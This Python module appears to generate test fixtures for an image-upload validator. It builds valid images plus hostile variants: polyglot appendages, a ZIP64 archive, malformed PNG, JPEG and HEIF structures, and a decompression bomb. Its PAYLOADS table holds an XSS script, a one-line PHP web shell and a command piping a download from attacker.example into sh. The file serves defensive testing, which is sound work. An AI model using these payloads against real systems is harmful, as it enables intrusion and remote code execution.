"""The valid images that the hostile ones are made from, and the parts they are combined with."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pillow_heif
from PIL import Image

_MEGABYTE = 1 << 20


@dataclass(frozen=True)
class Hostile:
    """One file. `codes` are its allowed rejections; empty means that it must be validated."""

    name: str
    about: str
    make: Callable[[], bytes]
    codes: tuple[str, ...]


@cache
def picture(width: int = 320, height: int = 240, mode: str = "RGB") -> Image.Image:
    """Smooth blobs with a little grain, the same on every run."""
    seeded = random.Random(width * 31 + height)
    small = Image.frombytes("RGB", (16, 12), seeded.randbytes(576))
    grain = Image.frombytes("RGB", (128, 96), seeded.randbytes(36_864))
    image = Image.blend(
        small.resize((width, height), Image.Resampling.BICUBIC), grain.resize((width, height)), 0.1
    )
    return image.convert(mode)


def encoded(image: Image.Image, image_format: str, **options: object) -> bytes:
    out = io.BytesIO()
    if image_format == "HEIF":
        pillow_heif.from_pillow(image).save(out, **options)
    else:
        image.save(out, image_format, **options)
    return out.getvalue()


@cache
def honest(image_format: str, width: int = 320, height: int = 240) -> bytes:
    return encoded(picture(width, height), image_format)


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("payload.txt", "appended to an image")
    return out.getvalue()


def zip64() -> bytes:
    """The same archive with all sizes and offsets in the records of ZIP64."""
    plain = archive()
    end = plain.rindex(b"PK\x05\x06")
    count, size, offset = struct.unpack_from("<HII", plain, end + 10)
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, offset)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    last = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0)
    return plain[:end] + record + locator + last


PAYLOADS: dict[str, bytes] = {
    "zip": archive(),
    "html": b"<html><script>alert(document.domain)</script></html>",
    "php": b"<?php system($_GET['c']); ?>",
    "script": b"#!/bin/sh\ncurl attacker.example | sh\n",
    "pe": b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(48),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(57),
    "pdf": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF",
    "random": random.Random(5).randbytes(4096),
}


def segment(marker: int, body: bytes) -> bytes:
    """A JPEG segment."""
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def after_soi(jpeg: bytes, *segments: bytes) -> bytes:
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def chunk(kind: bytes, body: bytes, *, checksum: int | None = None) -> bytes:
    """A PNG chunk."""
    crc = zlib.crc32(kind + body) if checksum is None else checksum
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def png(width: int, height: int, depth: int, colour: int, *chunks: bytes) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks)


def box(kind: bytes, body: bytes) -> bytes:
    """A box of an ISO base media file."""
    return struct.pack(">I", 8 + len(body)) + kind + body


def riff(*chunks: bytes) -> bytes:
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def riff_chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) & 1)


def zeros_deflated(size: int) -> bytes:
    """`size` zero bytes as a zlib stream: one megabyte is compressed, and repeated."""
    whole, rest = divmod(size, _MEGABYTE)
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(_MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, wbits=-15)
    end = last.compress(bytes(rest)) + last.flush()
    # The checksum of n zeros: its low half stays 1, its high half counts them.
    return b"\x78\xda" + block * whole + end + struct.pack(">HH", size % 65_521, 1)


def longer(data: bytes, at: int, by: int) -> bytes:
    """The 32-bit number at that place made larger."""
    return data[:at] + struct.pack(">I", int.from_bytes(data[at : at + 4], "big") + by) + data[at + 4 :]


def with_property(data: bytes, made: bytes, *, kinds: int = 1) -> bytes:
    """An AVIF or HEIF with one property more for its main image; `made` may begin with others of no image."""
    ipma = data.index(b"ipma") - 4
    ipco = data.index(b"ipco") - 4
    kept = data.index(b"ipco") + 4
    count, at = 0, kept
    while at < ipma:
        count += 1
        at += int.from_bytes(data[at : at + 4], "big")
    item = ipma + 16  # one entry, of an item with a number of two bytes and associations of one
    number_of = item + 2
    associated = data[number_of]
    data = (
        data[:number_of]
        + bytes([associated + 1])
        + data[number_of + 1 : number_of + 1 + associated]
        + bytes([0x80 | count + kinds])
        + data[number_of + 1 + associated :]
    )
    data = data[:ipma] + made + data[ipma:]
    added = len(made)
    data = longer(data, ipma + added, 1)
    data = longer(data, ipco, added)
    data = longer(data, data.index(b"iprp") - 4, added + 1)
    data = longer(data, data.index(b"meta") - 4, added + 1)
    # One extent, whose offset in the file is the last number but one of its box.
    iloc = data.index(b"iloc") - 4
    end = iloc + int.from_bytes(data[iloc : iloc + 4], "big")
    return longer(data, end - 8, added + 1)


def clap(width: int, height: int, left: int, top: int, of: tuple[int, int]) -> bytes:
    across, down = 2 * left + width - of[0], 2 * top + height - of[1]
    return box(b"clap", struct.pack(">IIIIiIiI", width, 1, height, 1, across, 2, down, 2))
